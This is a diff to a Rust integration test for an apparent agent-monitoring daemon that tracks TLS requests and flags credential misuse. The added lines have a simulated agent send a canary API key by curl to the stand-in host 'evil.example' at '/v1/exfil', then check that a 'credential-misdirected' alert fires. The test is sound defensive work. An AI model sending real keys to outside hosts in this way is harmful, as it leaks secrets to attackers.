@@ -262,7 +262,8 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
     let h2_key = format!("sk-proj-CANARYh2{nonce}Q7x9Lm2Np4Rt6Vw8YzAb");
     let py_key = format!("sk-proj-CANARYpy{nonce}Q7x9Lm2Np4Rt6Vw8YzAb");
     let split_key = format!("sk-proj-CANARYsplit{nonce}Q7x9Lm2Np4Rt6Vw8Yz");
-    let node_key = format!("sk-ant-CANARYnode{nonce}Q7x9Lm2Np4Rt6Vw8YzAbCd");
+    let node_key = format!("sk-proj-CANARYnode{nonce}Q7x9Lm2Np4Rt6Vw8YzAbCd");
+    let misdirected_key = format!("sk-proj-CANARYmisdirected{nonce}Q7x9Lm2Np4Rt6");
     let unwatched_key = format!("sk-proj-CANARYunwatched{nonce}Q7x9Lm2Np4Rt6");
     // In a token format, so the redaction of curl's own command line (outside this test's
     // subject) removes it there; the request event must drop it by dropping query values.
@@ -275,6 +276,7 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
         &node_key,
         &unwatched_key,
         &query_secret,
+        &misdirected_key,
     ];
 
     // Agents' cgroups get their file-open (and TLS) watch once an event of theirs is seen.
@@ -321,6 +323,15 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
     python(&beta_cg, &server, PY_HTTP_CLIENT, &["/v1/py", &py_key]);
     python(&beta_cg, &server, PY_SPLIT, &["/v1/split", &split_key]);
     node(&beta_cg, &server, &["/v1/node", &node_key]);
+    // An OpenAI key to a host outside OpenAI's domains.
+    curl(
+        &beta_cg,
+        &server,
+        "--http1.1",
+        "evil.example",
+        "/v1/exfil",
+        &format!("Authorization: Bearer {misdirected_key}"),
+    );
 
     let expected = [
         "/v1/curl1?key=&beta=",
@@ -328,6 +339,7 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
         "/v1/py",
         "/v1/split",
         "/v1/node",
+        "/v1/exfil",
     ];
     let events = daemon.cli_until(&["events", "--kind", "request", "--agent", beta], |v| {
         v.as_array().is_some_and(|e| {
@@ -340,7 +352,12 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
     for path in expected {
         let mine = by_path(&events, path);
         for e in &mine {
-            assert_eq!(e["host"], "api.openai.com", "{e:#}");
+            let host = if path == "/v1/exfil" {
+                "evil.example"
+            } else {
+                "api.openai.com"
+            };
+            assert_eq!(e["host"], host, "{e:#}");
             assert_eq!(e["agent"]["id"], beta, "{e:#}");
         }
         let creds: Vec<&Value> = mine
@@ -368,6 +385,17 @@ fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
     assert!(
         !all.to_string().contains("/v1/unwatched"),
         "an unregistered cgroup's request was reported: {all:#}"
+    );
+
+    // Only the key sent to evil.example is misdirected.
+    let misdirected = daemon.cli_until(&["alerts", "--rule", "credential-misdirected"], |v| {
+        v.as_array().is_some_and(|a| !a.is_empty())
+    });
+    let misdirected = misdirected.as_array().expect("alerts");
+    assert_eq!(misdirected.len(), 1, "{misdirected:#?}");
+    assert!(
+        misdirected[0].to_string().contains("evil.example"),
+        "{misdirected:#?}"
     );
 
     // alpha's env key in beta's header: one credential, one reuse naming both.
